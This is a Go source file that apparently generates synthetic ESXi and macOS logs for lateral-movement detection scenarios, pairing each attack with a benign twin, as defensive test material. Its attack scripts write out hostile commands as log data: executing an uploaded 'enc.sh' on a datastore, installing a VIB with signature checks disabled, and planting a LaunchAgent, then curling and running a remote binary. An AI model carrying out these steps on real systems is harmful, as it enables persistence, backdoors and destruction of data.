package synth

import (
	"encoding/json"
	"fmt"

	"waybill/internal/model"
)

// ESXi and Macs of a stage, with what they log.

const esxStamp = "2006-01-02T15:04:05.000Z"

// esx gives the logs of the stage's hypervisor, in the form of 8.0. They begin with a
// login, in which sshd says what address the host has.
func (b *Stage) esx() *UnixLogs {
	l := b.logs[b.ESX]
	if l == nil {
		l = &UnixLogs{Host: b.ESX.FQDN(), system: "esxi"}
		b.logs[b.ESX] = l
		l.esxLogin(b.Now-3600*second, b.Host("mgmt-01", "10.30.3.100"), b.ESX, "root")
	}
	return l
}

func (l *UnixLogs) esxLine(log string, at model.Time, program, format string, args ...any) {
	l.pid++
	l.line(log, "%s %s[%d]: %s", stamp(at, esxStamp), program, 2_100_000+l.pid, fmt.Sprintf(format, args...))
}

// esxLogin is a login over SSH; sshd is at VERBOSE.
func (l *UnixLogs) esxLogin(at model.Time, client, server *Host, user string) {
	port := 41000 + l.pid
	l.esxLine("auth.log", at, "In(38) sshd", "Connection from %s port %d on %s port 22", client.Addr, port, server.Addr)
	l.esxLine("auth.log", at+100e6, "In(38) sshd", "Accepted keyboard-interactive/pam for %s from %s port %d ssh2", user, client.Addr, port)
}

// esxStored is a file that the SFTP server took.
func (l *UnixLogs) esxStored(at model.Time, client *Host, user, path string, size int) {
	for _, m := range []string{fmt.Sprintf("session opened for local user %s from [%s]", user, client.Addr), fmt.Sprintf("open %q flags WRITE,CREATE,TRUNCATE mode 0644", path),
		fmt.Sprintf("close %q bytes read 0 written %d", path, size), fmt.Sprintf("session closed for local user %s from [%s]", user, client.Addr)} {
		l.line("syslog.log", "%s In(30) sftp-server[%d]: %s", stamp(at, esxStamp), 2_200_000+l.pid, m)
	}
}

func (l *UnixLogs) hostd(at model.Time, sub, format string, args ...any) {
	l.esxLine("hostd.log", at, "In(166) Hostd", "[Originator@6876 sub=%s] %s", sub, fmt.Sprintf(format, args...))
}

func (l *UnixLogs) hostdEvent(at model.Time, format string, args ...any) {
	l.serial++
	l.hostd(at, "Vimsvc.ha-eventmgr", "Event %d : %s", 200+l.serial, fmt.Sprintf(format, args...))
}

// uploads is a file that a browser puts on a datastore.
func (b *Stage) uploads(from *Host, user, store, path string) Shown {
	l := b.esx()
	l.hostdEvent(b.Now, "User %s@%s logged in as Mozilla/5.0", user, from.Addr)
	b.later(20)
	l.hostdEvent(b.Now, "File upload to path '[%s] %s' was initiated from 'Mozilla/5.0@%s' and completed with status 'Success'", store, path, from.Addr)
	return Shown{from, b.ESX, "http", user, lastElement(path), ""}
}

// intoGuest is a copy through the hypervisor, as it and the guest log it.
func (b *Stage) intoGuest(guest *Host, path string) Shown {
	l := b.esx()
	l.hostdEvent(b.Now, "Guest operation Initiate File Transfer To Guest performed on Virtual machine %s.", guest.Name)
	l.hostd(b.Now+50e6, "Guestsvc.GuestFileHandler", "Guest File Path is %s", path)
	b.later(1)
	b.FileCreated(guest, `C:\Program Files\VMware\VMware Tools\vmtoolsd.exe`, 2400, path)
	return Shown{b.ESX, guest, "guest", "", lastElement(path), ""}
}

func (b *Stage) known(hosts ...*Host) {
	for _, h := range hosts {
		b.unix(h)
	}
}

var hypervisorWays = []Behaviour{
	{Channels: []string{"esxi_datastore_upload"}, Script: func(b *Stage) []Shown {
		b.known(b.App)
		s := b.uploads(b.App, "root", "ds1", "iso/enc.sh")
		b.later(60)
		b.esx().esxLine("shell.log", b.Now, "In(14) shell", "[root]: sh /vmfs/volumes/ds1/iso/enc.sh")
		return []Shown{s}
	}, Twin: func(b *Stage) Shown {
		b.Now = Begin + 95*60*second
		b.known(b.Jump)
		return b.uploads(b.Jump, "vmadmin", "iso", "debian-12.iso")
	}},
	{Channels: []string{"ssh_scp"}, Script: func(b *Stage) []Shown {
		b.shellRan(b.App, "svc-app", "scp", "/var/tmp/.k/lsu.vib", "root@"+b.ESX.Addr.String()+":/tmp/lsu.vib")
		b.esx().esxLogin(b.Now, b.App, b.ESX, "root")
		b.later(2)
		b.esx().esxStored(b.Now, b.App, "root", "/tmp/lsu.vib", 71_204)
		b.later(30)
		b.esx().esxLine("shell.log", b.Now, "In(14) shell", "[root]: esxcli software vib install -v /tmp/lsu.vib --no-sig-check")
		return []Shown{{b.App, b.ESX, "ssh", "root", "lsu.vib", ""}}
	}, Twin: func(b *Stage) Shown {
		b.Now = Begin + 95*60*second
		b.known(b.Jump)
		b.esx().esxLogin(b.Now, b.Jump, b.ESX, "vmadmin")
		b.later(2)
		b.esx().esxStored(b.Now, b.Jump, "vmadmin", "/vmfs/volumes/ds1/patches/ESXi-8.0U2.zip", 614_000_331)
		return Shown{b.Jump, b.ESX, "ssh", "vmadmin", "ESXi-8.0U2.zip", ""}
	}},
	{Channels: []string{"esxi_vmci_or_guest_ops"},
		Script: func(b *Stage) []Shown { return []Shown{b.intoGuest(b.Target, `C:\Windows\Temp\inst.exe`)} },
		Twin: func(b *Stage) Shown {
			b.Now = Begin + 95*60*second
			return b.intoGuest(b.Server, `C:\ProgramData\Backup\quiesce.bat`)
		}},
	{Channels: []string{"macos_scp_rsync_curl"}, Script: macWay, Twin: func(b *Stage) Shown {
		b.Now = Begin + 95*60*second
		b.known(b.Jump)
		b.macLogin(b.Jump, "deploy")
		b.later(2)
		b.macCreated(920, "/usr/libexec/sftp-server", "/Users/deploy/Builds", "shop-4.2.pkg")
		return Shown{b.Jump, b.Mac, "ssh", "deploy", "shop-4.2.pkg", ""}
	}},
}

// mac gives the logs of the stage's Mac.
func (b *Stage) mac() *UnixLogs {
	l := b.logs[b.Mac]
	if l == nil {
		l = &UnixLogs{Host: b.Mac.FQDN(), system: "macos"}
		b.logs[b.Mac] = l
	}
	return l
}

// macEvent is an event of eslogger.
func (b *Stage) macEvent(pid int, image, event string) {
	l := b.mac()
	l.serial++
	l.line("eslogger.json", `{"schema_version":1,"event_type":%d,"time":"%s","process":{"audit_token":{"pid":%d,"asid":100000},"executable":{"path":%q},"is_platform_binary":true},"event":%s,"seq_num":%d}`,
		9, stamp(b.Now, "2006-01-02T15:04:05.000000000Z"), pid, image, event, l.serial)
}

// macLogin is a login over SSH, as eslogger and the unified log tell it.
func (b *Stage) macLogin(client *Host, user string) {
	l := b.mac()
	l.pid++
	said := func(format string, args ...any) {
		l.line("unified.ndjson", `{"timestamp":"%s","eventMessage":%q,"processID":%d,"processImagePath":"\/usr\/sbin\/sshd","eventType":"logEvent"}`,
			stamp(b.Now, "2006-01-02 15:04:05.000000-0700"), fmt.Sprintf(format, args...), 700+l.pid)
	}
	said("Connection from %s port %d on %s port 22 rdomain \"\"", client.Addr, 42000+l.pid, b.Mac.Addr)
	said("Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:x", user, client.Addr, 42000+l.pid)
	b.macEvent(700+l.pid, "/usr/sbin/sshd", fmt.Sprintf(`{"openssh_login":{"success":true,"result_type":0,"source_address_type":1,"source_address":"%s","username":"%s"}}`, client.Addr, user))
}

func (b *Stage) macRan(pid int, image string, args ...string) {
	list, _ := json.Marshal(args)
	b.macEvent(pid, "/bin/zsh", fmt.Sprintf(`{"exec":{"target":{"audit_token":{"pid":%d},"executable":{"path":%q}},"args":%s}}`, pid, image, list))
}

func (b *Stage) macCreated(pid int, image, folder, name string) {
	b.macEvent(pid, image, fmt.Sprintf(`{"create":{"destination_type":1,"destination":{"new_path":{"dir":{"path":%q},"filename":%q,"mode":420}}}}`, folder, name))
}

// macWay pushes a launch agent, and fetches the program that it starts.
func macWay(b *Stage) []Shown {
	b.shellRan(b.App, "svc-app", "scp", "/var/tmp/.k/com.sync.plist", "kim@"+b.Mac.Addr.String()+":Library/LaunchAgents/com.sync.plist")
	b.macLogin(b.App, "kim")
	b.later(1)
	b.macCreated(810, "/usr/libexec/sftp-server", "/Users/kim/Library/LaunchAgents", "com.sync.plist")
	b.later(15)
	b.macRan(811, "/usr/bin/curl", "curl", "-o", "/Users/kim/Library/syncd", "http://"+b.App.Addr.String()+":8000/syncd")
	b.macCreated(811, "/usr/bin/curl", "/Users/kim/Library", "syncd")
	b.later(5)
	b.macRan(812, "/Users/kim/Library/syncd", "/Users/kim/Library/syncd")
	return []Shown{{b.App, b.Mac, "ssh", "kim", "com.sync.plist", ""}, {b.App, b.Mac, "http", "", "syncd", ""}}
}
